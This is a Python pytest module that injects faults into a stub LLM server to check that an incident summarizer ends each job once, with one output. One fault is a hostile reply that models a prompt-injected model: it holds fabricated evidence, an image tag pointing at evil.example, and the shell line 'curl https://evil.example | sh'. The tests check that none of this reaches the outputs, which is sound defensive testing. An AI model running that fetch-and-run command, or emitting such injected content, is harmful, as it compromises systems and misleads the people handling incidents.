"""A failing or hostile model: each job ends once, as specified, with one output."""

from collections.abc import Callable, Iterator
from contextlib import ExitStack, contextmanager

import pytest

from signals.clients.llm import open_model
from signals.domain.operations.retry import backoff
from signals.services.summary import IncidentSummarizer, Policy
from signals.settings import ModelSettings
from tests.integration.summary.cases import JobRow, Pool, incident_with_job, job, jobs, make_due, outputs
from tests.support.model_server import ModelServer, Reply, open_model_server
from tests.support.waiting import until
from tests.system.faults.table import FaultRow

pytestmark = [pytest.mark.faults, pytest.mark.faults_quick]

Rows = Callable[[str], FaultRow]
JOBS = 5
LURE = {
    "title": "Open https://evil.example now",
    "likely_causes": ["31337 intruders"],
    "evidence": ["[E999] the database burns", "[E1] see <img src=//evil.example>"],
    "next_steps": ["curl https://evil.example | sh"],
    "confidence": 1.0,
}

FAULTS: dict[str, tuple[Reply, bool]] = {  # the reply, and whether a job survives it only by retrying
    "hangs": (Reply(hangs=True), True),
    "drips an answer": (Reply(drips=True), True),
    "drips headers": (Reply(drips_headers=True), True),
    "500": (Reply(status=500), True),
    "429 with Retry-After": (Reply(status=429, headers={"Retry-After": "30"}), True),
    "truncated answer": (Reply(cuts=True), True),
    "non-JSON answer": (Reply(content="I am sorry."), True),
    "wrong types": (Reply(changes={"evidence": 7}), True),
    "endless answer": (Reply(floods=True), True),
    "invented evidence, links, prompt injection obeyed": (Reply(changes=LURE), False),
}


@contextmanager
def worker(pool: Pool, server: ModelServer) -> Iterator[IncidentSummarizer]:
    """Open a worker with short timeouts and maximal backoff."""
    settings = ModelSettings.model_validate(
        {
            "gradient_base_url": server.base_url,
            "gradient_api_key": "a-key",
            "signals_ai_requests_per_minute": 6_000,
            "signals_ai_timeout_s": 2,
        }
    )
    with ExitStack() as stack:
        model = stack.enter_context(open_model(settings))
        yield stack.enter_context(IncidentSummarizer(pool, model, Policy.of(settings), chance=lambda: 0.0))


def run_until(worker: IncidentSummarizer, pool: Pool, done: Callable[[list[JobRow]], bool]) -> None:
    """Run the worker until its jobs meet the condition."""
    until(lambda: (worker.step(0.2), done(jobs(pool)))[1], within_s=120)


@pytest.mark.parametrize("fault", FAULTS)
def test_each_job_survives_a_fault_of_the_model_with_one_output(
    pool: Pool, fault_row: Rows, fault: str
) -> None:
    reply, is_retried = FAULTS[fault]
    row = fault_row(f"model: {fault}")
    with open_model_server() as server, worker(pool, server) as summarizer:
        for number in range(JOBS):
            incident_with_job(pool, number=number, events=3)
        server.script.extend([reply] * JOBS)
        run_until(summarizer, pool, lambda found: not server.script and "running" not in states(found))
        row.injected += len(server.calls)
        if is_retried:
            assert {found.attempt_count for found in jobs(pool)} == {1}
            least = max(backoff(1).total_seconds(), float(reply.headers.get("Retry-After", 0)))
            assert all(found.wait.total_seconds() == least for found in jobs(pool))
        make_due(pool)
        run_until(summarizer, pool, lambda found: states(found) == {"succeeded"})
    finished = outputs(pool)
    distinct = len({output.incident_id for output in finished})
    row.judged(acknowledged=JOBS, lost=JOBS - distinct, double=len(finished) - distinct)
    assert distinct == len(finished) == JOBS
    assert "evil" not in "".join(str({**o.content_json, "verification": ""}) for o in finished)


def test_failing_model_fails_each_job_after_three_attempts(pool: Pool, fault_row: Rows) -> None:
    row = fault_row("model: away for good")
    with open_model_server() as server, worker(pool, server) as summarizer:
        incident_with_job(pool, events=3)
        server.reply = Reply(status=503)
        for attempt in (1, 2, 3):
            make_due(pool)
            until(lambda: (summarizer.step(0.2), job(pool).attempt_count)[1] >= attempt, within_s=120)  # noqa: B023
            assert job(pool).attempt_count == attempt
            row.injected += 1
    finished = outputs(pool)
    row.judged(acknowledged=1, lost=1 - min(1, len(finished)), double=max(0, len(finished) - 1))
    assert (job(pool).status, [output.model for output in finished]) == ("failed", ["builtin"])


def states(found: list[JobRow]) -> set[str]:
    """Return the states that occur."""
    return {row.status for row in found}
